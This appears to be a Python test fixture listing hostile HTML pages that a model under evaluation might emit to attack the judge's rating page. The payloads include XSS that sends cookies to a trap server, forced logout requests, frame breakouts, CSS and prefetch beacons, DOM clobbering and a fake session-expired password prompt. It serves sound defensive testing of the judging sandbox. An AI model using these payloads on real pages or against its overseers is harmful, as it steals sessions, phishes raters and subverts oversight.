"""Pages that a policy might write against the judge who looks at them. Each tries to reach a server of its own,
the judge's session, or the page around it."""

PICTURE = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
COVER = "position:fixed;inset:0;display:block;width:100%;height:100%;font-size:90px"


def hostile_pages(trap: str, own: str) -> dict[str, str]:
    """{what it tries: the page}.

    Args:
      trap: address of a server that nothing must reach.
      own: address of the page on which people judge.
    """
    post = f"fetch('{own}/api/logout',{{method:'POST',credentials:'include'}});fetch('{trap}/' + document.cookie)"
    return {
        "script": f"<script>{post};top.location='{trap}/top';parent.document.title='taken'</script>",
        "script of a server": f"<script src='{trap}/x.js'></script><script type=module src='{trap}/m.js'></script>",
        "handlers": f"<img src=x onerror=\"{post}\"><body onload=\"{post}\"><input autofocus onfocus=\"{post}\">",
        "svg": f"<svg onload=\"{post}\"><image href='{trap}/i.svg'/><use href='{trap}/u.svg#a'/>"
               f"<script>{post}</script><foreignObject><iframe src='{trap}/f'></iframe></foreignObject></svg>",
        "frames": f"<iframe src='{trap}/f'></iframe><iframe src='{own}/'></iframe>"
                  f"<iframe srcdoc=\"<script>{post}</script>\"></iframe><frameset><frame src='{trap}/g'></frameset>",
        "form": f"<form action='{own}/api/logout' method=post target=_top><button style='{COVER}'>Send</button></form>",
        "form to a trap": f"<form action='{trap}/form'><input name=token autofocus><button style='{COVER}'>Log in"
                          "</button></form>",
        "refresh": f"<meta http-equiv=refresh content='0;url={trap}/refresh'>",
        "links over all": f"<a href='{trap}/link' style='{COVER}'>Submit</a>",
        "link to the top": f"<a href='{trap}/link' target=_top style='{COVER}' ping='{trap}/ping'>Submit</a>",
        "link to a window": f"<a href='{trap}/link' target=_blank rel=opener style='{COVER}'>Submit</a>",
        "link to a script": f"<a href=\"javascript:{post}\" style='{COVER}'>Submit</a>",
        "link to data": f"<a href=\"data:text/html,<script>{post}</script><img src='{trap}/i'>\" style='{COVER}'>x</a>",
        "link to the judge's own page": f"<a href='{own}/api/logout' style='{COVER}'>x</a>",
        "download": f"<a href='{trap}/file' download style='{COVER}'>x</a>",
        "beacons in styles": f"<style>@import '{trap}/i.css';body{{background:url({trap}/b)}}"
                             f"@font-face{{font-family:f;src:url({trap}/f.woff)}}p{{font-family:f}}"
                             f"input[value^=a]{{background:url({trap}/a)}}</style><p>text<input value=abc>",
        "base": f"<base href='{trap}/' target=_top><img src=i.png><a href=link style='{COVER}'>x</a>",
        "objects": f"<object data='{trap}/o'></object><embed src='{trap}/e'><applet code='{trap}/p'></applet>"
                   f"<object type=text/html data='data:text/html,<script>{post}</script>'></object>",
        "media": f"<video src='{trap}/v' autoplay poster='{trap}/p'></video><audio src='{trap}/a' autoplay></audio>"
                 f"<picture><source srcset='{trap}/s'><img src='{trap}/i' srcset='{trap}/j 2x'></picture>",
        "prefetch": f"<link rel=prefetch href='{trap}/1'><link rel=preload as=script href='{trap}/2'><link rel=preconnect "
                    f"href='{trap}'><LINK/rel=dns-prefetch href='{trap}'><link rel=modulepreload href='{trap}/3'>"
                    f"<link rel=prerender href='{trap}/4'><link rel=stylesheet href='{trap}/5'><link rel=icon href='{trap}/6'>"
                    f"<link rel=manifest href='{trap}/7'>",
        "clobbering": "<form id=main name=top><input id=form name=said></form><img name=body id=trouble>"
                      "<a id=queue href=x></a><iframe name=parent></iframe>",
        "a policy of its own": f"<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">"
                               f"<meta http-equiv=x-dns-prefetch-control content=on><img src='{trap}/i'><script>{post}</script>",
        "out of the frame": "</iframe></script></style></textarea></title><script>" + post + "</script>"
                            "--></noscript></template><plaintext>",
        "without end": "<b>" * 400 + "x" * 400_000,
        "characters": "\u202etxet desrever\u202c a\u0000b \ud800 \ufeff <scr\u0000ipt>" + post + "</script>",
        "over the page": "<div style='position:fixed;inset:-9999px;z-index:2147483647;background:#fff'>"
                         "<h1>Your session is over</h1><input type=password autofocus></div>"
    }
